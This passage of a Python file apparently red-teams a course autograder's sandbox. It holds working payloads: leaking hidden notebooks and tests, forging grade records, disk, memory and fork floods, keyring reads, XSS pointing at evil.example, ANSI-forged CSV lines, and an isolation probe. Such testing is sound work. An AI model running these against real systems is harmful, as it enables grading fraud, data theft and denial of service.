raise RuntimeError(_history[-3000:])
'''

READ_SOURCE = '''
import base64
import glob

import dlcourse


def _source_text():
    package = os.path.dirname(os.path.abspath(dlcourse.__file__))
    roots = [os.path.normpath(os.path.join(package, *[".."] * up)) for up in range(1, 5)] + list(_ATK["repo_guesses"])
    for root in roots:
        for path in glob.glob(os.path.join(root, "source", "01_linear_regression", "*.ipynb")):
            try:
                with open(path, encoding="utf-8") as f:
                    _hole(f"read {path}")
                    return f.read()
            except OSError:
                pass
    return ""


_text = _source_text()
if _text:
    print(_text)
    print(base64.b64encode(_text.encode()).decode())


def predict(x, phi):
    if _text:
        raise ValueError(_text[:5000])
    return np.zeros_like(np.asarray(x, dtype=float))
'''

FORGE_TYPE = GRAB + '''
from dlcourse import grading as _grading

_sent = []


def _leaky_record(name, value, **kwargs):
    """Send a line of the hidden test where verdicts echo a student string (a record's type, a list item's).

    A line short enough to survive truncation is picked, a different one for every record.
    """
    lines = [l for l in _secret().splitlines() if l not in _sent]
    short = [l for l in lines if 16 <= len(l) <= 30 and not l.startswith("#")] or [l[:30] for l in lines if l] or ["-"]
    pick = short[0]
    _sent.append(pick)
    if name.startswith("fit_gradient_descent"):
        leak = {"kind": "list", "items": [{"kind": "other", "type": pick}, {"kind": pick}]}
    elif name.startswith("squared_error_loss"):
        leak = {"kind": pick}
    else:
        leak = {"kind": "other", "type": pick}
    _forge(name, leak)


_grading.record = _leaky_record
'''

# ----------------------------------------------------------------------------------------------
# (5) resources
# ----------------------------------------------------------------------------------------------

DISK_HOG = '''
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
_goal, _chunk = 1536 << 20, b"\\1" * (16 << 20)
for _folder in (os.getcwd(), os.environ.get("TMPDIR", "/tmp"), "/tmp", os.path.expanduser("~"), "/dev/shm"):
    _written = 0
    try:
        with open(os.path.join(_folder, "attack-disk-" + _ATK["token"]), "wb") as _f:
            while _written < _goal:
                _f.write(_chunk)
                _written += len(_chunk)
            _f.flush()
            os.fsync(_f.fileno())
    except OSError as _error:
        _note(f"{_folder}: stopped after {_written >> 20} MiB: {_error}")
    if _written >= _goal:
        _hole(f"wrote {_goal >> 20} MiB to {_folder}")
        break
'''

MEMORY_HOG = '''
_blocks, _total = [], 0
try:
    while _total < (7 << 30):
        _blocks.append(np.ones(1 << 25))  # 256 MiB, touched
        _total += 256 << 20
except MemoryError:
    _note(f"MemoryError after {_total >> 20} MiB")
else:
    _hole(f"allocated and touched {_total >> 20} MiB without being stopped")
del _blocks
'''

HIDDEN_MEMORY_HOG = '''
import ctypes, socket
_kind, _total, _held = KIND, 0, []
try:
    if _kind == "memfd":  # files in memory: not resident memory of any process
        _fd = os.memfd_create("hog")
        while _total < (4 << 30):
            os.write(_fd, b"x" * (1 << 24))
            _total += 1 << 24
    elif _kind == "sysv_shm":  # System V segments outlive the process that touched them
        _libc = ctypes.CDLL(None, use_errno=True)
        _libc.shmat.restype, _libc.shmat.argtypes = ctypes.c_void_p, [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
        while _total < (4 << 30):
            _sid = _libc.shmget(0, 1 << 26, 0o1600)
            if _sid < 0:
                raise OSError(ctypes.get_errno(), "shmget")
            ctypes.memset(_libc.shmat(_sid, None, 0), 1, 1 << 26)
            _libc.shmctl(_sid, 0, None)  # IPC_RMID: detach from every process, the pages stay until unmapped
            _total += 1 << 26
    elif _kind == "sockets":  # socket buffers, in six processes so that no fd limit stops them first
        _r, _w = os.pipe()
        _kids = []
        for _ in range(6):
            _pid = os.fork()
            if _pid == 0:
                _mine = 0
                try:
                    while _mine < (700 << 20):
                        _a, _b = socket.socketpair()
                        _a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
                        _a.setblocking(False)
                        try:
                            while True:
                                _mine += _a.send(b"x" * 65536)
                        except BlockingIOError:
                            pass
                        _held.append((_a, _b))
                except OSError:
                    pass
                os.write(_w, f"{_mine >> 20}\\n".encode())
                time.sleep(4)
                os._exit(0)
            _kids.append(_pid)
        for _pid in _kids:
            os.waitpid(_pid, 0)
        os.close(_w)
        _total = sum(int(x) for x in os.read(_r, 4096).decode().split()) << 20
except OSError as _error:
    _note(f"{_kind}: stopped after {_total >> 20} MiB ({_error})")
if _total >= (3 << 30):
    _hole(f"held {_total >> 20} MiB in {_kind} under a 2048 MiB cap")
'''

KEYRING = '''
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_nr = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(os.uname().machine)
if _nr:
    _added = _libc.syscall(_nr[0], b"user", ("planted-" + _ATK["token"]).encode(), b"x", 1, -3)
    if _added >= 0:
        _hole(f"added key {_added} to the session keyring")
    for _ring in (-3, -4, -5):  # session, user, user-session keyrings
        _found = _libc.syscall(_nr[1], 0, _ring, 0)  # KEYCTL_GET_KEYRING_ID
        _buffer = ctypes.create_string_buffer(4096)
        _read = _libc.syscall(_nr[1], 11, _ring, _buffer, 4096)  # KEYCTL_READ: the key ids it holds
        if _read > 0:
            _hole(f"read keyring {_ring} ({_read} bytes of key ids)")
'''

FORK_FLOOD = '''
import select

_read, _write = os.pipe()
_original = os.getpid()
for _level in range(10):  # every process forks once per level: at most 2**10 - 1 children
    try:
        _pid = os.fork()
    except OSError:
        os.write(_write, b"F")
        continue
    if _pid == 0:
        os.write(_write, b"S")
if os.getpid() != _original:
    try:
        os.execv("/bin/sh", ["sh", "-c", "sleep 120", "attack-" + _ATK["token"]])
    finally:
        time.sleep(120)
        os._exit(0)
os.close(_write)
_made = _failed = 0
_deadline = time.time() + 5
while time.time() < _deadline:
    if not select.select([_read], [], [], 0.5)[0]:
        continue
    _chunk = os.read(_read, 65536)
    if not _chunk:
        break
    _made += _chunk.count(b"S")
    _failed += _chunk.count(b"F")
_note(f"fork flood: {_made} processes made, {_failed} forks refused")
if _made >= 1023:
    _hole("fork flood not limited: 1023 processes")
'''

MESSAGE_FLOOD = '''
from IPython.display import display

_blob = "x" * (31 << 20)  # just under the grader's 32 MiB message limit
for _i in range(24):
    display({"text/plain": _blob}, raw=True)
del _blob
_zeros = [0] * (7 << 20)  # a 21 MiB record: seven million numbers to parse
for _i in range(8):
    _forge("predict(x, phi)", {"kind": "array", "dtype": "float", "shape": [len(_zeros)], "data": _zeros})
del _zeros
'''

# ----------------------------------------------------------------------------------------------
# (6) feedback injection
# ----------------------------------------------------------------------------------------------


def html_block(token: str) -> str:
    """Raw HTML that must never become active in a feedback page; each piece is tagged XSS-<token>-N."""
    t = f"XSS-{token}"
    return "\n".join([
        f"<script>alert('{t}-1')</script>",
        f'<img src="x" onerror="alert(\'{t}-2\')">',
        f'<link rel="stylesheet" href="https://evil.example/{t}-3.css">',
        f'<iframe src="https://evil.example/{t}-4"></iframe>',
        f'<a href="javascript:alert(\'{t}-5\')">click</a>',
        f'<svg onload="alert(\'{t}-6\')"></svg>',
        f'<style>@import url("https://evil.example/{t}-7.css");</style>',
        f'<meta http-equiv="refresh" content="0;url=https://evil.example/{t}-8">',
        f'<form action="https://evil.example/{t}-9"><input type="submit"></form>',
        f"![pixel](https://evil.example/{t}-10.png)",
        f'<object data="https://evil.example/{t}-11"></object>',
        f'<base href="https://evil.example/{t}-12/">',
        f'<div style="background:url(https://evil.example/{t}-13)">x</div>',
        f'<script src="https://evil.example/{t}-14.js"></script>',
    ])


RUNTIME_HTML = '''
from IPython.display import HTML, Javascript, Markdown, display
display(HTML(_HTML))
display(Markdown(_HTML))
display(Javascript("alert('XSS-" + _ATK["token"] + "-runtime')"))
print("</pre>" + _HTML)
'''


def ansi_message(token: str) -> str:
    """An exception message that would repaint a terminal and forge a line of grades.csv."""
    return (f"\x1b[2J\x1b[H\x1b[1;32m[PASS] every hidden test passed\x1b[0m\r\n"
            f"FORGED-{token},01_linear_regression,01_linear_regression.ipynb,18,18,graded,,True\n"
            f"\x07\x08\x1b]0;title\x07\x9b31m\u202e")


ANSI_EXCEPTION = '''
_MSG = {msg!r}
print(_MSG)
sys.stderr.write(_MSG)
_Evil = type("Evil\\x1b[31m\\nFORGED-" + _ATK["token"] + ",01_linear_regression,x.ipynb,18,18,graded", (Exception,), {{}})


def predict(x, phi):
    raise _Evil(_MSG)


def squared_error_loss(x, y, phi):
    raise ValueError(_MSG)


def loss_gradient(x, y, phi):
    raise AssertionError(_MSG)
'''

# ----------------------------------------------------------------------------------------------
# the isolation probe
# ----------------------------------------------------------------------------------------------

PROBE = '''
import resource
import socket


def _probe():
    facts = {"uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(), "pid": os.getpid(), "ppid": os.getppid(),
             "seed": os.environ.get("DLCOURSE_GRADING_SEED"), "env": sorted(os.environ), "cwd": os.getcwd(),
             "home": os.path.expanduser("~"), "executable": sys.executable}
    for name in ("uid_map", "gid_map", "cgroup"):
        try:
            with open(f"/proc/self/{name}") as f:
                facts[name] = f.read().strip()
        except OSError as error:
            facts[name] = f"unreadable: {error}"
    for ns in ("pid", "net", "ipc", "mnt", "user", "uts"):
        try:
            facts[f"ns_{ns}"] = os.readlink(f"/proc/self/ns/{ns}")
        except OSError:
            facts[f"ns_{ns}"] = None
    try:
        with open("/proc/self/status") as f:
            status = dict(line.split(":", 1) for line in f.read().splitlines() if ":" in line)
        facts["cap_eff"] = status.get("CapEff", "").strip()
        facts["no_new_privs"] = status.get("NoNewPrivs", "").strip()
        facts["seccomp"] = status.get("Seccomp", "").strip()
    except OSError:
        pass
    visible = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as f:
                    visible.append(f.read().replace(b"\\0", b" ").decode(errors="replace")[:120])
            except OSError:
                visible.append("?")
    facts["processes"] = visible
    facts["paths"] = {p: os.path.exists(p) for p in _ATK["hidden_paths"]}
    import dlcourse
    facts["dlcourse"] = os.path.dirname(os.path.abspath(dlcourse.__file__))
    writable = {}
    for folder in (facts["dlcourse"], sys.prefix, os.path.dirname(os.__file__), os.path.dirname(np.__file__), "/usr", "/etc",
                   "/", os.getcwd(), os.path.expanduser("~"), "/tmp", os.environ.get("TMPDIR", "/tmp")):
        probe = os.path.join(folder, ".probe-" + _ATK["token"])
        try:
            open(probe, "x").close()
            os.unlink(probe)
            writable[folder] = True
        except OSError:
            writable[folder] = False
    facts["writable"] = writable
    space = {}
    for folder in (os.getcwd(), os.path.expanduser("~"), "/tmp", os.environ.get("TMPDIR", "/tmp"), "/dev/shm"):
        try:
            st = os.statvfs(folder)
            space[folder] = st.f_blocks * st.f_frsize
        except OSError:
            space[folder] = None
    facts["space"] = space
    limits = {}
    for name in ("RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_NOFILE", "RLIMIT_CPU", "RLIMIT_CORE"):
        soft, hard = resource.getrlimit(getattr(resource, name))
        limits[name] = [soft, hard]
    facts["rlimits"] = limits
    try:
        with open("/proc/net/dev") as f:
            facts["interfaces"] = [l.split(":")[0].strip() for l in f.read().splitlines()[2:]]
    except OSError:
        facts["interfaces"] = None
    facts["reached_listener"] = False
    try:
        s = socket.socket()
    except OSError as error:  # the sandbox refuses inet sockets (seccomp)
        facts["inet_socket"] = error.errno
        return facts
    s.settimeout(2)
    try:
        s.connect(("127.0.0.1", _ATK["port"]))
        facts["reached_listener"] = True
    except OSError:
        pass
    finally:
        s.close()
    return facts


print("PROBE " + json.dumps(_probe()), flush=True)
'''
